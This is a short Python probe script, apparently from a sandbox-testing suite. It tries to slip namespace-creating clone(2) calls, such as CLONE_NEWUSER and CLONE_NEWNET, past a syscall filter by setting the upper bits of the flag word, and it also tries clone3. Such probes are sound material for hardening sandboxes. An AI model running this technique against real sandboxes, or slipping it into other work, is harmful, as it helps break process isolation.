"""clone(2) with namespace flags and set upper halves: a filter that compares 64 bits lets CLONE_NEWUSER through."""
import os

from attack import HIGH, attempt, finish, syscall

CLONE, SIGCHLD = 56, 17
FLAGS = {"NEWUSER": 0x10000000, "NEWNS": 0x20000, "NEWPID": 0x20000000, "NEWNET": 0x40000000, "PARENT": 0x8000,
         "NEWUSER|NEWNET": 0x50000000, "PTRACE": 0x2000, "UNTRACED": 0x800000, "NEWTIME": 0x80}


def go():
    user = os.readlink("/proc/self/ns/user")
    for name, flag in FLAGS.items():
        for upper in (0, HIGH, 1 << 63):
            if name == "NEWTIME" and not upper:
                continue  # in clone(2) these bits are the exit signal
            child, _ = syscall(CLONE, flag | SIGCHLD | upper, None, None, None, None)
            if child == 0:
                os._exit(42 if os.readlink("/proc/self/ns/user") != user else 0)
            if child > 0 and name != "NEWTIME":
                return "clone(%s) with upper bits %#x made process %d" % (name, upper, child)
            if child > 0:
                os.waitpid(child, 0)
    number, _ = syscall(435, b"\0" * 88, 88)  # clone3: the flags stand behind a pointer
    return number >= 0 and "clone3 made process %d" % number


finish(attempt(go))
